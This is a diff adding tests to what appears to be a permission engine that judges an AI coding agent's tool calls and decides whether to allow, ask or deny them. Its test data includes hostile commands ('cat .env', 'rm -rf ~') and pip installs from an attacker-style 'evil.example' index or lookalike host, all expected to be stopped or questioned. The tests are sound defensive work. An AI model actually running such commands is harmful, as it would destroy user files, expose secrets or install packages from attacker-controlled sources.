@@ -15,10 +15,13 @@ from support.repositories import make_repo
 
 from enactd import resources
 from enactd.bundle import load
+from enactd.config import Freeze, Settings
+from enactd.config.settings import Packages
 from enactd.effects import interpret
 from enactd.effects.model import Opaque
 from enactd.effects.shell.readers import Readers
-from enactd.judge import Judge, Judgement
+from enactd.evaluate import PolicySet
+from enactd.judge import Judge, Judgement, Ruling
 from enactd.policy import Session
 from enactd.risk import Risk
 from enactd.toolcall import ToolCall
@@ -210,3 +213,63 @@ def test_no_command_raises(words: list[str], glue: str) -> None:
     found = judge("Bash", {"command": glue.join(words)})
     assert found.verdict.decision in Decision
     assert [] == faults(found)
+
+
+SPARING = Settings(allow="approve-safe")
+
+
+@pytest.mark.parametrize(
+    ("tool", "arguments", "expected"),
+    [
+        ("Bash", {"command": "git status"}, True),
+        ("Read", {"file_path": "src/app.py"}, True),
+        ("Bash", {"command": "cat .env"}, False),
+        ("Bash", {"command": "git push origin feature/x"}, False),
+        ("Bash", {"command": "./unknown-program"}, False),
+        ("Bash", {"command": "rm -rf ~"}, False),
+        ("mcp__odd__tool", {"x": 1}, False),
+        ("WebFetch", {"url": "https://example.com", "prompt": "x"}, False),
+    ],
+)
+def test_only_what_is_certainly_safe_spares_a_question(tool: str, arguments: dict[str, Any], expected: bool) -> None:
+    """Allowed, read to the last word, SAFE, and no policy had a word to say; in modes that ask."""
+    judge = Judge(POLICIES, readers=Readers(None), rulings=lambda *_: (Ruling(POLICIES, SPARING),))
+    call = ToolCall(agent="a", session="s", tool=tool, input=arguments, cwd="/home/u/proj", mode="default")
+
+    def spared(by: Judge, call: ToolCall) -> bool:
+        return by.judge(call, workspace="/home/u/proj", home="/home/u", assume=True).spare
+
+    assert expected == spared(judge, call)
+    assert not spared(judge, msgspec.structs.replace(call, mode="plan"))
+    assert not spared(JUDGE, call)
+    both = Judge(POLICIES, readers=Readers(None), rulings=lambda *_: (Ruling(POLICIES, SPARING), Ruling(POLICIES)))
+    assert not spared(both, call)
+
+
+def test_of_two_rulings_the_stricter_answer_holds() -> None:
+    """Each with its own settings; the digest is that of the one that decided."""
+    freezing = Ruling(PolicySet(POLICIES.policies, "frozen"), Settings(freeze=Freeze(reason="x")))
+    for order in ((Ruling(POLICIES), freezing), (freezing, Ruling(POLICIES))):
+        judge = Judge(POLICIES, readers=Readers(None), rulings=lambda *_, order=order: order)
+        call = ToolCall(agent="a", session="s", tool="Bash", input={"command": "git commit -m x"}, cwd="/home/u/proj")
+        found = judge.judge(call, workspace="/home/u/proj", home="/home/u", assume=True)
+        assert (Decision.DENY, "frozen") == (found.verdict.decision, found.digest)
+
+
+def test_registries_of_the_settings_are_as_good_as_the_usual_ones() -> None:
+    """By beginning of their URL, or by host with TLS; where two rulings hold, both must say so."""
+    mine = Ruling(POLICIES, Settings(packages=Packages(registries=("https://pypi.corp/simple", "npm.corp"))))
+    judge = Judge(POLICIES, readers=Readers(None), rulings=lambda *_: (mine,))
+    both = Judge(POLICIES, readers=Readers(None), rulings=lambda *_: (mine, Ruling(POLICIES)))
+    for command, expected in (
+        ("pip install --index-url https://pypi.corp/simple x", "allow"),
+        ("pip install --index-url https://pypi.corp/simple --extra-index-url https://evil.example x", "ask"),
+        ("pip install --index-url https://pypi.corp.evil.example/simple x", "ask"),
+        ("npm install --registry https://npm.corp/ x", "allow"),
+        ("npm install --registry http://npm.corp/ x", "ask"),
+    ):
+        call = ToolCall(agent="a", session="s", tool="Bash", input={"command": command}, cwd="/home/u/proj")
+        found = judge.judge(call, workspace="/home/u/proj", home="/home/u", assume=True)
+        assert expected == str(found.verdict.decision), command
+        stricter = both.judge(call, workspace="/home/u/proj", home="/home/u", assume=True)
+        assert "ask" == str(stricter.verdict.decision), command
